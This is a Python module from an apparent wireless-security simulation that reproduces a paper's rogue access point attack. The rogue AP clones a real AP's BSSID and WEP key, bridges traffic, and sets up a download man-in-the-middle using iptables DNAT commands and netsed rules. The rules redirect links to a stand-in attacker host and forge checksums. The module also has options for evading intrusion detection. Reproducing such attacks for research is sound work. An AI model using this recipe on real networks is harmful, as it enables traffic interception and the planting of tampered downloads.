"""The rogue access point of Figure 1, assembled exactly as in §4.1.

One laptop ("the gateway machine"), two wireless cards:

* ``eth1`` — the Netgear MA101 stand-in: a *managed* client that
  authenticates to the real CORP network "as a valid client", using
  the WEP key and (optionally) a sniffed, spoofed MAC address;
* ``wlan0`` — the D-Link DWL-650 stand-in in Master mode: a soft AP
  that "emulate[s] a valid AP as best it can ... the same SSID and
  require[s] the same WEP key", on a different channel, with the
  legitimate AP's BSSID cloned (Fig. 1 shows both as AA:BB:CC:DD).

parprouted bridges the two; Netfilter + netsed stage the download MITM.
"""

from __future__ import annotations

from typing import Optional

from repro.attacks.netsed import NetsedProxy, NetsedRule
from repro.attacks.parprouted import Parprouted
from repro.crypto.wep import WepKey
from repro.dot11.frames import FrameSubtype
from repro.dot11.mac import MacAddress
from repro.dot11.seqctl import MirroredSequenceCounter
from repro.hosts.ap_core import SoftApInterface
from repro.hosts.host import Host
from repro.hosts.linuxconf import LinuxBox
from repro.hosts.nic import WirelessInterface
from repro.netstack.addressing import IPv4Address
from repro.radio.medium import Medium
from repro.radio.propagation import Position
from repro.sim.kernel import Simulator

__all__ = ["RogueAccessPoint"]


class RogueAccessPoint:
    """The attacker's dual-radio gateway machine."""

    def __init__(
        self,
        sim: Simulator,
        medium: Medium,
        position: Position,
        *,
        ssid: str = "CORP",
        clone_bssid: MacAddress,
        legit_channel: int = 1,
        rogue_channel: int = 6,
        wep_key: Optional[WepKey] = None,
        wpa_psk: Optional[bytes] = None,
        client_mac: Optional[MacAddress] = None,
        eth1_ip: str = "10.0.0.25",
        wlan0_ip: str = "10.0.0.24",
        gateway_ip: str = "10.0.0.1",
        name: str = "rogue-gw",
        mirror_seqctl: bool = False,
        beacon_jitter_s: float = 0.0,
        match_beacon_cadence: bool = False,
    ) -> None:
        self.sim = sim
        self.ssid = ssid
        self.gateway_ip = IPv4Address(gateway_ip)
        self.host = Host(sim, name)
        if client_mac is None:
            client_mac = MacAddress.random(sim.rng.substream(f"mac.{name}"))
        # The managed card, associating to the real network as a valid client.
        self.eth1 = WirelessInterface("eth1", client_mac, medium, position,
                                      tx_power_dbm=18.0)
        self.host.add_interface(self.eth1)
        # --- WIDS-evasion knobs ---------------------------------------
        # match_beacon_cadence: discipline the soft-AP's TBTT to the
        # crystal-exact 100 TU the legitimate AP keeps, defeating
        # beacon-jitter analysis; beacon_jitter_s models the sloppy
        # default soft-AP scheduler the analysis exists to catch.
        self.mirror_seqctl = mirror_seqctl
        self.beacon_jitter_s = 0.0 if match_beacon_cadence else beacon_jitter_s
        self._mirror: Optional[MirroredSequenceCounter] = None
        if mirror_seqctl:
            # Shadow the legitimate AP's counter via the upstream card,
            # which already sits on the legit channel hearing its BSS.
            self._mirror = MirroredSequenceCounter()

            def overhear(frame, _rssi: float, channel: int) -> None:
                if (channel == legit_channel
                        and frame.addr2 == clone_bssid
                        and frame.subtype is not FrameSubtype.ACK):
                    self._mirror.observe(frame.seq)

            self.eth1.frame_tap = overhear
        # The master-mode card: the rogue BSS itself.
        self.wlan0 = SoftApInterface(
            "wlan0", medium, position,
            bssid=clone_bssid, ssid=ssid, channel=rogue_channel,
            wep_key=wep_key, wpa_psk=wpa_psk,
            seqctl=self._mirror, beacon_jitter_s=self.beacon_jitter_s,
        )
        self.host.add_interface(self.wlan0)
        self.box = LinuxBox(self.host)
        self.parprouted = Parprouted(self.host, "wlan0", "eth1")
        self.netsed: Optional[NetsedProxy] = None
        self._wep = wep_key
        self._wpa_psk = wpa_psk
        self._legit_channel = legit_channel
        self._eth1_ip = eth1_ip
        self._wlan0_ip = wlan0_ip

    # ------------------------------------------------------------------
    # bring-up (Appendix A)
    # ------------------------------------------------------------------
    def start(self) -> None:
        """Associate upstream and run the Appendix A bridge script."""
        # "The attacker will first authenticate to the existing network
        #  as a valid client with one WiFi card."
        self.eth1.join(self.ssid, wep_key=self._wep, wpa_psk=self._wpa_psk,
                       channels=(self._legit_channel,))
        # Appendix A, line for line (wlan0 takes a /32 so victim routes
        # come exclusively from parprouted's host routes).
        self.box.sh("echo 1 > /proc/sys/net/ipv4/ip_forward")
        self.box.sh(f"ifconfig wlan0 {self._wlan0_ip} netmask 255.255.255.255")
        self.box.sh(f"ifconfig eth1 {self._eth1_ip} netmask 255.255.255.0")
        self.parprouted.start()
        self.box.sh(f"route add -host {self.gateway_ip} dev eth1")
        self.box.sh(f"route add default gw {self.gateway_ip}")
        self.sim.trace.emit("rogue.start", self.host.name,
                            ssid=self.ssid, channel=self.wlan0.core.channel,
                            bssid=str(self.wlan0.core.bssid))

    def stop(self) -> None:
        self.parprouted.stop()
        if self.wlan0.core is not None:
            self.wlan0.core.shutdown()
        self.eth1.leave()
        if self.netsed is not None:
            self.netsed.close()

    # ------------------------------------------------------------------
    # status
    # ------------------------------------------------------------------
    @property
    def upstream_associated(self) -> bool:
        return self.eth1.associated

    def captured_clients(self) -> list[MacAddress]:
        """Stations currently associated to the rogue BSS."""
        if self.wlan0.core is None:
            return []
        return self.wlan0.core.associated_clients()

    # ------------------------------------------------------------------
    # the §4.1 download MITM
    # ------------------------------------------------------------------
    def install_download_mitm(
        self,
        target_ip: "IPv4Address | str",
        *,
        rules: "list[NetsedRule | str]",
        listen_port: int = 10101,
    ) -> NetsedProxy:
        """Install the DNAT rule and start netsed — §4.1's two commands.

        ``rules`` are netsed's ``s/old/new`` strings, e.g.::

            ["s/href=file.tgz/href=http:%2f%2f203.0.113.66%2ffile.tgz/",
             "s/<real md5>/<fake md5>/"]
        """
        target_ip = IPv4Address(target_ip)
        self.box.sh(
            f"iptables -t nat -A PREROUTING -p tcp -d {target_ip} "
            f"--dport 80 -j DNAT --to {self._wlan0_ip}:{listen_port}"
        )
        self.netsed = NetsedProxy(self.host, listen_port, target_ip, 80,
                                  rules)
        self.sim.trace.emit("rogue.mitm_armed", self.host.name,
                            target=str(target_ip), port=listen_port)
        return self.netsed
